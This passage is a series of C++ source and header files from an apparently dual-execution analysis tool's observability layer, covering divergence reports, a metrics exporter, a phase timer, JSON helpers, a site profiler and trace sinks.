                             return a->tsUs < b->tsUs;
                         if (a->seq != b->seq)
                             return a->seq < b->seq;
                         return a->side < b->side;
                     });
    return all;
}

std::string
eventJson(const RecEvent &e, const SysNameFn &sysName)
{
    std::string out = "{\"type\":\"event\"";
    out += ",\"side\":\"";
    out += e.side == 0 ? "master" : "slave";
    out += "\",\"seq\":" + std::to_string(e.seq);
    out += ",\"ts_us\":" + std::to_string(e.tsUs);
    out += ",\"kind\":" + jsonString(recKindName(e.kind));
    out += ",\"tid\":" + std::to_string(e.tid);
    out += ",\"cnt\":" + std::to_string(e.cnt);
    out += ",\"site\":" + std::to_string(e.site);
    out += ",\"sys\":" + std::to_string(e.sysNo);
    std::string sys = resolveSys(sysName, e.sysNo);
    if (!sys.empty())
        out += ",\"sys_name\":" + jsonString(sys);
    out += ",\"arg\":" + std::to_string(e.arg);
    out += '}';
    return out;
}

} // namespace

DivergenceReport
buildDivergenceReport(const DivergenceInput &input)
{
    DivergenceReport rep;
    if (!input.recorder)
        return rep;
    rep.present = true;
    rep.outcome = input.outcome;
    rep.ringCapacity = input.recorder->capacity();
    for (int side = 0; side < 2; ++side) {
        rep.totalEvents[side] = input.recorder->total(side);
        rep.droppedEvents[side] = input.recorder->dropped(side);
        rep.events[side] = input.recorder->snapshot(side);
    }
    rep.mutatedKeys = input.mutatedKeys;
    rep.taintedKeys = input.taintedKeys;
    rep.channels = input.channels;

    // First diverging event: the earliest divergent-kind record on
    // the shared timestamp timeline, ties broken by sequence (both
    // rings stamp from the same clock, so cross-side order is
    // meaningful at microsecond granularity). Alignment-protocol
    // divergences (decouple, sink diff/vanish, barrier skip, lock
    // order) outrank terminal symptoms (trap, watchdog expiry): a
    // trap is downstream of the decouple that let the sides drift, and
    // the lockstep driver can retire one side's trap before the other
    // side's decouple is even recorded.
    auto alignment_divergent = [](RecKind k) {
        return k == RecKind::SyscallDecouple || k == RecKind::SinkDiff ||
               k == RecKind::SinkVanish || k == RecKind::BarrierSkip ||
               k == RecKind::LockDiverge;
    };
    const RecEvent *first = nullptr;
    bool first_is_alignment = false;
    for (int side = 0; side < 2; ++side) {
        for (const RecEvent &e : rep.events[side]) {
            if (!recKindDivergent(e.kind))
                continue;
            bool align = alignment_divergent(e.kind);
            if (first) {
                if (first_is_alignment && !align)
                    continue;
                if (first_is_alignment == align &&
                    (e.tsUs > first->tsUs ||
                     (e.tsUs == first->tsUs && e.seq >= first->seq)))
                    continue;
            }
            first = &e;
            first_is_alignment = align;
        }
    }
    if (first) {
        rep.hasFirstDivergence = true;
        rep.firstDivergence = *first;
        rep.firstDivergenceSyscall =
            resolveSys(input.sysName, first->sysNo);

        // Peer context: the peer's event at the same logical position
        // (counter and site), else its latest event not after the
        // divergence — what the other execution was doing "then".
        int peer = first->side == 0 ? 1 : 0;
        const RecEvent *ctx = nullptr;
        for (const RecEvent &e : rep.events[peer]) {
            if (e.cnt == first->cnt && e.site == first->site) {
                ctx = &e;
                break;
            }
        }
        if (!ctx) {
            for (const RecEvent &e : rep.events[peer]) {
                if (e.tsUs <= first->tsUs)
                    ctx = &e;
                else
                    break;
            }
        }
        if (ctx) {
            rep.hasPeerContext = true;
            rep.peerContext = *ctx;
        }
    }

    // Stall attribution: pair each Block with the Unblock or
    // WatchdogExpire that ended it, per (side, tid).
    for (int side = 0; side < 2; ++side) {
        // tid -> pending Block event (tids are small and few).
        std::vector<std::pair<std::uint16_t, const RecEvent *>> open;
        auto find_open = [&](std::uint16_t tid)
            -> std::pair<std::uint16_t, const RecEvent *> * {
            for (auto &p : open)
                if (p.first == tid)
                    return &p;
            return nullptr;
        };
        for (const RecEvent &e : rep.events[side]) {
            if (e.kind == RecKind::Block) {
                auto *slot = find_open(e.tid);
                if (slot)
                    slot->second = &e;
                else
                    open.push_back({e.tid, &e});
                continue;
            }
            if (e.kind != RecKind::Unblock &&
                e.kind != RecKind::WatchdogExpire)
                continue;
            auto *slot = find_open(e.tid);
            if (!slot || !slot->second)
                continue;
            const RecEvent &b = *slot->second;
            StallRecord st;
            st.side = static_cast<std::uint8_t>(side);
            st.tid = e.tid;
            st.sysNo = b.sysNo;
            st.site = b.site;
            st.cnt = b.cnt;
            st.gate = b.arg;
            st.polls = e.arg;
            st.durUs = e.tsUs - b.tsUs;
            st.expired = e.kind == RecKind::WatchdogExpire;
            rep.stalls.push_back(st);
            slot->second = nullptr;
        }
    }
    std::stable_sort(rep.stalls.begin(), rep.stalls.end(),
                     [](const StallRecord &a, const StallRecord &b) {
                         return a.durUs > b.durUs;
                     });
    return rep;
}

std::string
DivergenceReport::summary() const
{
    if (!present)
        return "no divergence report";
    if (!hasFirstDivergence)
        return "outcome " + outcome + ", no divergent event recorded";
    std::ostringstream os;
    os << "first divergence: "
       << recKindName(firstDivergence.kind);
    if (!firstDivergenceSyscall.empty())
        os << " at " << firstDivergenceSyscall;
    os << " (" << sideTag(firstDivergence.side)
       << " tid=" << firstDivergence.tid
       << " cnt=" << firstDivergence.cnt;
    if (firstDivergence.site >= 0)
        os << " site#" << firstDivergence.site;
    os << ")";
    return os.str();
}

std::string
DivergenceReport::text(const SysNameFn &sysName) const
{
    std::ostringstream os;
    if (!present) {
        os << "clean run: no divergence report\n";
        return os.str();
    }
    os << "== divergence report ==\n";
    os << "outcome: " << outcome << "\n";
    os << "ring: capacity " << ringCapacity << "/side, master "
       << totalEvents[0] << " events (" << droppedEvents[0]
       << " dropped), slave " << totalEvents[1] << " events ("
       << droppedEvents[1] << " dropped)\n";

    if (!mutatedKeys.empty()) {
        os << "mutated sources:\n";
        for (const std::string &k : mutatedKeys)
            os << "  " << k << "\n";
    }

    os << "\n" << summary() << "\n";
    if (hasFirstDivergence)
        os << "  " << eventLine(firstDivergence, sysName) << "\n";
    if (hasPeerContext)
        os << "  peer context: " << eventLine(peerContext, sysName)
           << "\n";

    if (!stalls.empty()) {
        os << "\ncoupling stalls (longest first):\n";
        std::size_t shown = 0;
        for (const StallRecord &st : stalls) {
            if (shown++ >= 16) {
                os << "  ... " << stalls.size() - 16 << " more\n";
                break;
            }
            os << "  " << sideTag(st.side) << " tid=" << st.tid
               << " ";
            std::string sys = st.sysNo >= 0
                                  ? (sysName ? sysName(st.sysNo)
                                             : "sys#" +
                                                   std::to_string(
                                                       st.sysNo))
                                  : std::string("barrier");
            os << sys << " cnt=" << st.cnt;
            if (st.site >= 0)
                os << " site#" << st.site;
            os << ": " << st.durUs << "us, " << st.polls << " polls"
               << (st.expired ? " (watchdog expired)" : "") << "\n";
        }
    }

    if (!channels.empty()) {
        os << "\nfinal channel state:\n";
        for (const ChannelSnapshot &ch : channels) {
            os << "  tid " << ch.tid << ": master cnt=" << ch.cnt[0]
               << " site#" << ch.site[0]
               << (ch.threadDone[0] ? " done" : "")
               << " | slave cnt=" << ch.cnt[1] << " site#"
               << ch.site[1] << (ch.threadDone[1] ? " done" : "")
               << " | queue depth " << ch.queueDepth << "\n";
        }
    }

    if (!taintedKeys.empty()) {
        os << "\ntainted resources:\n";
        for (const std::string &k : taintedKeys)
            os << "  " << k << "\n";
    }

    auto all = mergedTimeline(events[0], events[1]);
    os << "\ntimeline (last " << std::min<std::size_t>(all.size(), 48)
       << " of " << all.size() << " events):\n";
    std::size_t start = all.size() > 48 ? all.size() - 48 : 0;
    for (std::size_t i = start; i < all.size(); ++i)
        os << "  " << eventLine(*all[i], sysName) << "\n";
    return os.str();
}

void
DivergenceReport::writeJsonl(std::ostream &os,
                             const SysNameFn &sysName) const
{
    std::string head = "{\"type\":\"divergence-report\"";
    head += ",\"present\":";
    head += present ? "true" : "false";
    head += ",\"outcome\":" + jsonString(outcome);
    head += ",\"ring_capacity\":" + std::to_string(ringCapacity);
    head += ",\"events\":{\"master\":" + std::to_string(totalEvents[0]);
    head += ",\"slave\":" + std::to_string(totalEvents[1]);
    head += "},\"dropped\":{\"master\":" +
            std::to_string(droppedEvents[0]);
    head += ",\"slave\":" + std::to_string(droppedEvents[1]) + '}';
    head += ",\"first_divergence\":";
    head += hasFirstDivergence ? eventJson(firstDivergence, sysName)
                               : "null";
    head += ",\"peer_context\":";
    head += hasPeerContext ? eventJson(peerContext, sysName) : "null";
    head += ",\"mutated\":[";
    for (std::size_t i = 0; i < mutatedKeys.size(); ++i) {
        if (i)
            head += ',';
        head += jsonString(mutatedKeys[i]);
    }
    head += "],\"tainted\":[";
    for (std::size_t i = 0; i < taintedKeys.size(); ++i) {
        if (i)
            head += ',';
        head += jsonString(taintedKeys[i]);
    }
    head += "],\"stalls\":[";
    for (std::size_t i = 0; i < stalls.size(); ++i) {
        const StallRecord &st = stalls[i];
        if (i)
            head += ',';
        head += "{\"side\":\"";
        head += st.side == 0 ? "master" : "slave";
        head += "\",\"tid\":" + std::to_string(st.tid);
        head += ",\"sys\":" + std::to_string(st.sysNo);
        head += ",\"site\":" + std::to_string(st.site);
        head += ",\"cnt\":" + std::to_string(st.cnt);
        head += ",\"dur_us\":" + std::to_string(st.durUs);
        head += ",\"polls\":" + std::to_string(st.polls);
        head += ",\"expired\":";
        head += st.expired ? "true" : "false";
        head += '}';
    }
    head += "]}";
    os << head << "\n";

    for (const RecEvent *e : mergedTimeline(events[0], events[1]))
        os << eventJson(*e, sysName) << "\n";
}

void
DivergenceReport::writeChromeTrace(std::ostream &os,
                                   const SysNameFn &sysName) const
{
    os << "[";
    os << "{\"name\":\"process_name\",\"ph\":\"M\",\"pid\":0,"
          "\"args\":{\"name\":\"master\"}},\n";
    os << "{\"name\":\"process_name\",\"ph\":\"M\",\"pid\":1,"
          "\"args\":{\"name\":\"slave\"}}";
    for (const RecEvent *ep : mergedTimeline(events[0], events[1])) {
        const RecEvent &e = *ep;
        os << ",\n{\"name\":";
        std::string sys = resolveSys(sysName, e.sysNo);
        std::string name = recKindName(e.kind);
        if (!sys.empty())
            name += ":" + sys;
        os << jsonString(name);
        os << ",\"ph\":\"i\",\"s\":\"t\"";
        os << ",\"pid\":" << static_cast<int>(e.side);
        os << ",\"tid\":" << e.tid;
        os << ",\"ts\":" << e.tsUs;
        os << ",\"args\":{\"cnt\":" << e.cnt << ",\"site\":" << e.site
           << ",\"seq\":" << e.seq << ",\"arg\":" << e.arg << "}}";
    }
    os << "\n]\n";
}

} // namespace ldx::obs
