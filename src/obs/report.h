/**
 * @file
 * obs::DivergenceReport — the post-mortem artifact of a non-clean
 * dual run.
 *
 * When a run ends with any divergence signal (a causality finding, a
 * decouple, a trap, a watchdog expiry, a deadlock), the engine
 * snapshots both flight-recorder rings plus the per-thread channel
 * state into this structure, which then:
 *
 *  - aligns the two timelines: every event carries the shared
 *    obs::nowUs() timestamp plus its logical position (counter stack
 *    depth is folded into the counter at record time), so the two
 *    rings merge into one ordered history;
 *  - localizes the *first diverging event* — the earliest event of a
 *    divergent kind (decouple, sink diff/vanish, barrier skip, lock
 *    divergence, trap, watchdog expiry) across both rings — and looks
 *    up the peer's event at the same logical position (cnt, site) for
 *    context;
 *  - attributes coupling stalls: every Block/Unblock (or
 *    Block/WatchdogExpire) pair becomes a stall record charged to the
 *    syscall or barrier that waited, sorted by duration.
 *
 * The report renders as human text, as JSONL (one event per line,
 * header first), or as a dual-lane Chrome trace_event file. The
 * `ldx explain` subcommand is a thin wrapper over these renderers.
 *
 * This layer depends only on obs; syscall numbers are resolved to
 * names through an injected resolver so obs never includes os
 * headers.
 */
#pragma once

#include <cstdint>
#include <functional>
#include <iosfwd>
#include <string>
#include <vector>

#include "obs/recorder.h"

namespace ldx::obs {

/** Resolves a syscall number to a display name ("read", ...). */
using SysNameFn = std::function<std::string(std::int64_t)>;

/** One attributed coupling stall (a Block..Unblock interval). */
struct StallRecord
{
    std::uint8_t side = 0;
    std::uint16_t tid = 0;
    std::int64_t sysNo = -1;  ///< syscall waited at (-1 = barrier)
    std::int32_t site = -1;
    std::int64_t cnt = 0;
    std::uint64_t gate = 0;   ///< wait gate kind (controller enum)
    std::uint64_t polls = 0;  ///< polls spent while blocked
    std::int64_t durUs = 0;   ///< wall time blocked
    bool expired = false;     ///< ended by watchdog, not resolution
};

/** One thread pair's channel state at the end of the run. */
struct ChannelSnapshot
{
    int tid = 0;
    std::int64_t cnt[2] = {0, 0};
    std::int32_t site[2] = {-1, -1};
    std::uint8_t posKind[2] = {0, 0};
    std::vector<std::int64_t> cntStack[2];
    bool threadDone[2] = {false, false};
    std::size_t queueDepth = 0; ///< unconsumed master outcomes
};

/** Everything the builder needs; assembled by the engine. */
struct DivergenceInput
{
    const FlightRecorder *recorder = nullptr;
    SysNameFn sysName;                      ///< may be null
    std::string outcome;                    ///< "sink-diff", ...
    std::vector<std::string> mutatedKeys;   ///< pre-tainted sources
    std::vector<std::string> taintedKeys;   ///< final taint set
    std::vector<ChannelSnapshot> channels;
};

/** The structured post-mortem of one non-clean dual run. */
struct DivergenceReport
{
    bool present = false;
    std::string outcome;

    std::size_t ringCapacity = 0;
    std::uint64_t totalEvents[2] = {0, 0};
    std::uint64_t droppedEvents[2] = {0, 0};
    std::vector<RecEvent> events[2]; ///< oldest-first snapshots

    bool hasFirstDivergence = false;
    RecEvent firstDivergence{};
    std::string firstDivergenceSyscall; ///< resolved name ("" none)

    bool hasPeerContext = false;
    RecEvent peerContext{}; ///< peer event at the same (cnt, site)

    std::vector<StallRecord> stalls; ///< longest first

    std::vector<std::string> mutatedKeys;
    std::vector<std::string> taintedKeys;
    std::vector<ChannelSnapshot> channels;

    /** One-line summary ("first divergence: decouple at read ..."). */
    std::string summary() const;

    /** Multi-section human-readable rendering. */
    std::string text(const SysNameFn &sysName = nullptr) const;

    /** JSONL: one header object, then one object per event. */
    void writeJsonl(std::ostream &os,
                    const SysNameFn &sysName = nullptr) const;

    /** Chrome trace_event JSON with one lane per side. */
    void writeChromeTrace(std::ostream &os,
                          const SysNameFn &sysName = nullptr) const;
};

/** Snapshot, localize, and attribute; see the file comment. */
DivergenceReport buildDivergenceReport(const DivergenceInput &input);

} // namespace ldx::obs
