/**
 * @file
 * Campaign-scale telemetry exporters: a background registry sampler
 * and a live progress meter.
 *
 * `Exporter` snapshots an `obs::Registry` every N ms on its own
 * thread and serializes each sample to two optional surfaces:
 *
 *  - a **JSONL time-series** file — one `{"ts_us":…,"seq":…,
 *    "metrics":{…}}` object per line, appended, so a campaign leaves
 *    a replayable metric history;
 *  - a **Prometheus-style text exposition** file — rewritten
 *    atomically (write-to-temp + rename) on every tick, so an
 *    external scraper always reads a complete document. This is the
 *    exact `/metrics` surface a future `ldx serve` mounts.
 *
 * Start/stop semantics are strict: `start()` opens the sinks and
 * spawns the sampler; `stop()` wakes it, takes one final snapshot
 * (so even a run shorter than the interval exports at least one
 * sample — including a SIGINT-drained campaign), joins, and flushes.
 * `stop()` is idempotent and the destructor calls it.
 *
 * `ProgressMeter` is the human-facing sibling: a background thread
 * that renders one live, carriage-return-overwritten status line
 * (done/total, queries/s, ETA, cache hit rate, active workers) from
 * the same registry aggregates the exporter samples. Neither class
 * touches the hot path: both only *read* the lock-free instruments.
 */
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <fstream>
#include <mutex>
#include <ostream>
#include <string>
#include <thread>

#include "obs/registry.h"

namespace ldx::obs {

/**
 * Static build identity exported as the conventional Prometheus info
 * gauge `ldx_build_info{version=…,dispatch=…,computed_goto=…} 1` —
 * the one series a dashboard joins against to know what binary
 * produced the rest of the metrics.
 */
struct BuildInfo
{
    std::string version;  ///< project version ("" = gauge omitted)
    std::string dispatch; ///< configured dispatch mode name
    bool computedGoto = false; ///< build has computed-goto dispatch
};

/**
 * Render @p snap in the Prometheus text exposition format (v0.0.4):
 * one `# TYPE` line per metric, metric names sanitized to
 * `[a-zA-Z0-9_]` with an `ldx_` prefix, histograms expanded into
 * cumulative `_bucket{le="…"}` series plus `_sum`/`_count`. A
 * non-null @p build with a version emits the `ldx_build_info` gauge
 * first.
 */
std::string renderPrometheus(const MetricsSnapshot &snap,
                             const BuildInfo *build = nullptr);

/** True when stderr is an interactive terminal (isatty). */
bool stderrIsTty();

/** Exporter configuration. */
struct ExporterConfig
{
    /** JSONL time-series path ("" = disabled). Appended per tick. */
    std::string jsonlPath;

    /** Prometheus exposition path ("" = disabled). Atomically
     *  rewritten per tick. */
    std::string promPath;

    /** Sampling interval in milliseconds (>= 1). */
    int intervalMs = 500;

    /** Build identity for the exposition (empty version = omitted). */
    BuildInfo build;
};

/** Background registry sampler (see file header). */
class Exporter
{
  public:
    /** @p registry must outlive the exporter. */
    Exporter(const Registry &registry, ExporterConfig cfg);
    ~Exporter();

    Exporter(const Exporter &) = delete;
    Exporter &operator=(const Exporter &) = delete;

    /**
     * Open the configured sinks and spawn the sampler thread.
     * Returns false (with `error()` set) when a sink cannot be
     * opened; the exporter then stays inert.
     */
    bool start();

    /**
     * Take one final snapshot, stop the sampler, and flush both
     * sinks. Idempotent; safe to call after a SIGINT-drained run.
     */
    void stop();

    /** Samples exported so far (final stop() sample included). */
    std::uint64_t samples() const
    {
        return samples_.load(std::memory_order_relaxed);
    }

    /** Why start() failed ("" when it did not). */
    const std::string &error() const { return error_; }

  private:
    void run();
    void exportOnce();

    const Registry &registry_;
    ExporterConfig cfg_;
    std::ofstream jsonl_;
    std::thread thread_;
    std::mutex mutex_;
    std::condition_variable cv_;
    bool stopRequested_ = false;
    bool running_ = false;
    std::atomic<std::uint64_t> samples_{0};
    std::string error_;
};

/**
 * Live one-line progress display driven off the campaign aggregates
 * (`campaign.queries.planned`, `campaign.sched.completed`,
 * `campaign.cache.{hits,misses}`, `campaign.sched.active_workers`).
 * Renders to @p out (stderr in the CLI) every `intervalMs`,
 * overwriting itself with '\r'; stop() prints the final state and a
 * newline so subsequent output starts clean.
 */
class ProgressMeter
{
  public:
    /** @p registry and @p out must outlive the meter. */
    ProgressMeter(const Registry &registry, std::ostream &out,
                  int intervalMs = 200);
    ~ProgressMeter();

    ProgressMeter(const ProgressMeter &) = delete;
    ProgressMeter &operator=(const ProgressMeter &) = delete;

    void start();

    /** Render the final line (newline-terminated) and join. */
    void stop();

    /** One rendered status line (no '\r'/'\n'); exposed for tests. */
    std::string renderLine() const;

  private:
    void run();

    const Registry &registry_;
    std::ostream &out_;
    int intervalMs_;
    std::thread thread_;
    std::mutex mutex_;
    std::condition_variable cv_;
    bool stopRequested_ = false;
    bool running_ = false;
    std::chrono::steady_clock::time_point t0_;
};

} // namespace ldx::obs
