/**
 * @file
 * Phase timing for the compile/instrument/run pipeline.
 *
 * A PhaseTimer records a stack of named, possibly nested phases
 * (lex/parse, IR build, instrumentation, master run, slave run,
 * verdict, ...), keeps every completed sample, and mirrors each one
 * into a trace sink as a Chrome 'X' (complete) event on the pipeline
 * lane. begin()/end() pair on one thread; record() lets worker
 * threads report phases they timed themselves (the threaded driver's
 * per-side run loops).
 */
#pragma once

#include <chrono>
#include <cstdint>
#include <mutex>
#include <string>
#include <type_traits>
#include <vector>

#include "obs/trace.h"

namespace ldx::obs {

/** One completed phase. */
struct PhaseSample
{
    std::string name;
    int depth = 0;          ///< nesting level at begin()
    std::int64_t startUs = 0; ///< obs::nowUs() timeline
    double seconds = 0.0;
};

/** Records nested phase durations; optionally mirrors to a sink. */
class PhaseTimer
{
  public:
    explicit PhaseTimer(TraceSink *sink = nullptr,
                        int lane = kPipelineLane);

    /** Open a phase (nests under any phase already open). */
    void begin(const std::string &name);

    /** Close the innermost open phase; returns its seconds. */
    double end();

    /** Add an externally timed sample (thread-safe). */
    void record(const std::string &name, int depth,
                std::int64_t start_us, double seconds);

    /** Time a callable as one phase. */
    template <typename Fn>
    auto
    time(const std::string &name, Fn &&fn)
    {
        begin(name);
        if constexpr (std::is_void_v<decltype(fn())>) {
            fn();
            end();
        } else {
            auto result = fn();
            end();
            return result;
        }
    }

    /** RAII phase. */
    class Guard
    {
      public:
        Guard(PhaseTimer &timer, const std::string &name)
            : timer_(timer)
        {
            timer_.begin(name);
        }
        ~Guard() { timer_.end(); }
        Guard(const Guard &) = delete;
        Guard &operator=(const Guard &) = delete;

      private:
        PhaseTimer &timer_;
    };

    /** Completed samples in completion order. */
    std::vector<PhaseSample> samples() const;

    /** Sum of seconds over samples named @p name. */
    double total(const std::string &name) const;

  private:
    struct OpenPhase
    {
        std::string name;
        std::int64_t startUs;
        std::chrono::steady_clock::time_point t0;
    };

    mutable std::mutex mutex_;
    TraceSink *sink_;
    int lane_;
    std::vector<OpenPhase> stack_;
    std::vector<PhaseSample> samples_;
};

} // namespace ldx::obs
