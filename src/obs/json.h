/**
 * @file
 * Minimal JSON emission helpers shared by the obs backends (metrics
 * snapshots, JSONL and Chrome trace sinks, bench blobs). Writing only
 * — the repo never needs to parse JSON, so there is no parser.
 */
#pragma once

#include <cmath>
#include <cstdint>
#include <cstdio>
#include <string>

namespace ldx::obs {

/** Append @p s to @p out as a quoted, escaped JSON string. */
inline void
appendJsonString(std::string &out, const std::string &s)
{
    out += '"';
    for (char c : s) {
        unsigned char u = static_cast<unsigned char>(c);
        switch (c) {
          case '"': out += "\\\""; break;
          case '\\': out += "\\\\"; break;
          case '\n': out += "\\n"; break;
          case '\r': out += "\\r"; break;
          case '\t': out += "\\t"; break;
          default:
            if (u < 0x20) {
                char buf[8];
                std::snprintf(buf, sizeof buf, "\\u%04x", u);
                out += buf;
            } else {
                out += c;
            }
        }
    }
    out += '"';
}

/** @p s as a quoted, escaped JSON string. */
inline std::string
jsonString(const std::string &s)
{
    std::string out;
    appendJsonString(out, s);
    return out;
}

/** A double as a JSON number (JSON has no NaN/Inf; map those to 0). */
inline std::string
jsonNumber(double v)
{
    if (!std::isfinite(v))
        return "0";
    char buf[64];
    std::snprintf(buf, sizeof buf, "%.17g", v);
    return buf;
}

inline std::string
jsonNumber(std::uint64_t v)
{
    return std::to_string(v);
}

inline std::string
jsonNumber(std::int64_t v)
{
    return std::to_string(v);
}

} // namespace ldx::obs
