/**
 * @file
 * Guest-level causal profiler: per-site cost attribution for the
 * programs the dual engine executes.
 *
 * The VM owns the counting (vm/machine.cc bumps one u64 per retired
 * decoded-stream site, batched per run; see docs/PERFORMANCE.md for
 * the zero-cost-when-off contract); this layer owns the storage and
 * the reports. SiteCounters is deliberately plain data — vectors
 * indexed by (function, flat decoded offset) — so the hot path never
 * calls through obs and so master/slave profiles can be diffed with
 * plain loops.
 *
 * Determinism contract: retired counts, syscall counts, virtual
 * syscall latency, call edges, and root calls are protocol-state and
 * therefore byte-identical across drivers, dispatch modes, and worker
 * counts (tests/profiler_test.cc pins this). Stall polls and gate
 * stalls depend on scheduling; reports only include them on request
 * (ProfileReportOptions::includeStalls) and the deterministic
 * artifacts never do.
 */
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace ldx::obs {

/** Controller-side stall aggregate for one instrumentation site. */
struct SiteStall
{
    std::uint64_t episodes = 0;    ///< Block..Unblock waits closed here
    std::uint64_t polls = 0;       ///< blocked re-polls across episodes
    std::uint64_t expirations = 0; ///< waits ended by the watchdog
};

/** Per-site stall map keyed by static instrumentation site id. */
using SiteStallMap = std::map<int, SiteStall>;

/**
 * Per-site cost counters for one VM (one side of a dual pair).
 *
 * Shape: one slot per decoded instruction, per function, in decoded
 * stream order — the flat offset the fast-path interpreter already
 * dispatches on. A Machine shapes the arrays at construction
 * (MachineConfig::siteProfile) and bumps them single-threaded; the
 * struct needs no atomics because each side runs on one OS thread.
 */
struct SiteCounters
{
    /** Retired instructions per site. */
    std::vector<std::vector<std::uint64_t>> retired;
    /** Completed syscalls per site (subset of retired). */
    std::vector<std::vector<std::uint64_t>> syscalls;
    /** Deterministic virtual syscall latency (ticks) per site. */
    std::vector<std::vector<std::uint64_t>> sysTicks;
    /** Blocked port re-polls per site (driver-dependent). */
    std::vector<std::vector<std::uint64_t>> stallPolls;
    /** Call edge counts, row-major caller * numFns + callee. */
    std::vector<std::uint64_t> callEdges;
    /** Context entries per function (main + thread_create targets). */
    std::vector<std::uint64_t> rootCalls;
    /** Controller gate stalls by instrumentation site id. */
    SiteStallMap gateStalls;
    std::size_t numFns = 0;

    /** True once shape() ran (arrays sized to the program). */
    bool shaped() const { return numFns != 0 || !retired.empty(); }

    /**
     * Size every array for @p sites_per_fn decoded instructions per
     * function. Idempotent for an identical shape; fatal on mismatch
     * (one SiteCounters instance belongs to one program).
     */
    void shape(const std::vector<std::size_t> &sites_per_fn);

    /** Accumulate @p other (same shape) into this. */
    void merge(const SiteCounters &other);

    /** Sum of all retired-instruction site counts. */
    std::uint64_t totalRetired() const;
};

/** Metadata for one decoded site, extracted by the VM layer. */
struct SiteMeta
{
    const char *op = "";  ///< opcode name (static storage)
    int line = 0;         ///< MiniC source line (1-based; 0 unknown)
    int col = 0;
    std::int64_t siteId = -1; ///< instrumentation site id (-1 none)
    bool isSyscall = false;
};

/** Metadata for one decoded function. */
struct FunctionMeta
{
    std::string name;
    std::vector<SiteMeta> sites; ///< decoded stream order
};

/**
 * Everything the report builders need besides the counters. Built by
 * vm::buildProfileMeta (the only layer that sees the decoded
 * streams); obs stays free of vm/ir dependencies.
 */
struct ProfileMeta
{
    std::string program;               ///< workload / file label
    std::vector<FunctionMeta> fns;     ///< function id order
    std::vector<std::string> sourceLines; ///< MiniC source, for annotate
};

/** Report shaping knobs (`--profile-sites`, `--profile-stalls`). */
struct ProfileReportOptions
{
    std::size_t topSites = 20; ///< sites per function in the JSON
    bool includeStalls = false; ///< emit driver-dependent stall data
};

/**
 * The `ldx-profile-v1` JSON report: per-function and per-site retired
 * / syscall / virtual-latency attribution, call edges, and — when
 * @p slave is non-null — the master-vs-slave diff section listing
 * every site whose deterministic counts differ between the sides
 * (the causal-coupling cost of the mutation). Deterministic unless
 * opt.includeStalls is set.
 */
std::string profileReportJson(const ProfileMeta &meta,
                              const SiteCounters &master,
                              const SiteCounters *slave,
                              const ProfileReportOptions &opt);

/**
 * Collapsed-stack flamegraph text, one line per hot site:
 * `root;...;func;op@line:col count`, root-first, feedable to
 * flamegraph.pl. Call paths are reconstructed deterministically from
 * the call-edge counts (dominant caller per function, ties to the
 * lower function id, cycles cut at first repeat).
 */
std::string collapsedStacks(const ProfileMeta &meta,
                            const SiteCounters &c);

/**
 * Annotated MiniC source listing: per-line retired / syscall-tick
 * sums, plus a master-minus-slave retired delta column when @p slave
 * is non-null.
 */
std::string annotateSource(const ProfileMeta &meta,
                           const SiteCounters &master,
                           const SiteCounters *slave);

} // namespace ldx::obs
