/**
 * @file
 * Structured trace sinks.
 *
 * A TraceRecord is one timestamped event on a (lane, tid) pair; lanes
 * map to Chrome trace "processes" so a dual-execution trace renders
 * with one lane per side plus one for the compile/run pipeline. Two
 * backends serialize records:
 *
 *  - JsonlTraceSink: one self-contained JSON object per line — easy
 *    to grep, stream, and post-process;
 *  - ChromeTraceSink: the Chrome `trace_event` JSON format, loadable
 *    in about://tracing or https://ui.perfetto.dev.
 *
 * Both are thread-safe (controllers on two OS threads emit
 * concurrently) and both apply a record cap so a runaway spin loop
 * cannot fill the disk.
 */
#pragma once

#include <cstdint>
#include <memory>
#include <mutex>
#include <ostream>
#include <string>
#include <utility>
#include <vector>

namespace ldx::obs {

/** Well-known lanes (Chrome "pid"s). */
inline constexpr int kMasterLane = 0;
inline constexpr int kSlaveLane = 1;
inline constexpr int kPipelineLane = 2;

/**
 * Per-worker lanes for campaign spans: worker w of a scheduler pool
 * emits on lane kWorkerLaneBase + w, so a merged campaign trace
 * renders each worker's queries as one swim-lane alongside the
 * pipeline lane. Safely above the fixed lanes.
 */
inline constexpr int kWorkerLaneBase = 16;

/** One trace event. */
struct TraceRecord
{
    std::string name;
    /** 'i' = instant, 'X' = complete (has durUs). */
    char phase = 'i';
    int lane = kPipelineLane;
    int tid = 0;
    /** Microseconds on the obs::nowUs() timeline; -1 = stamp at emit. */
    std::int64_t tsUs = -1;
    std::int64_t durUs = 0;
    std::vector<std::pair<std::string, std::int64_t>> numArgs;
    std::vector<std::pair<std::string, std::string>> strArgs;
};

/** Abstract sink for trace records. */
class TraceSink
{
  public:
    /** Default cap on records accepted before further emits drop. */
    static constexpr std::uint64_t kDefaultCap = 1'000'000;

    virtual ~TraceSink() = default;

    /** Serialize one record (thread-safe). */
    virtual void emit(const TraceRecord &rec) = 0;

    /** Name a lane ("master", "slave", "pipeline"). */
    virtual void setLaneName(int lane, const std::string &name) = 0;

    /** Finish the output (closes the Chrome JSON array). */
    virtual void flush() = 0;
};

/** JSON-lines backend. */
class JsonlTraceSink : public TraceSink
{
  public:
    /** @p os must outlive the sink. */
    explicit JsonlTraceSink(std::ostream &os,
                            std::uint64_t cap = kDefaultCap);

    void emit(const TraceRecord &rec) override;
    void setLaneName(int lane, const std::string &name) override;
    void flush() override;

  private:
    std::mutex mutex_;
    std::ostream &os_;
    std::uint64_t cap_;
    std::uint64_t emitted_ = 0;
};

/** Chrome trace_event backend ({"traceEvents":[...]}). */
class ChromeTraceSink : public TraceSink
{
  public:
    /** @p os must outlive the sink. */
    explicit ChromeTraceSink(std::ostream &os,
                             std::uint64_t cap = kDefaultCap);
    ~ChromeTraceSink() override;

    void emit(const TraceRecord &rec) override;
    void setLaneName(int lane, const std::string &name) override;
    void flush() override;

  private:
    void writeEvent(const std::string &body); ///< caller holds mutex_

    std::mutex mutex_;
    std::ostream &os_;
    std::uint64_t cap_;
    std::uint64_t emitted_ = 0;
    bool any_ = false;
    bool closed_ = false;
};

/**
 * Construct a sink by format name ("jsonl" or "chrome"); nullptr on
 * an unknown format.
 */
std::unique_ptr<TraceSink> makeTraceSink(const std::string &format,
                                         std::ostream &os);

/**
 * Emit one span-correlated campaign event: a complete ('X') span
 * when @p durUs >= 0, an instant ('i') otherwise, carrying the
 * stable span id as a numeric "span" argument so every phase of one
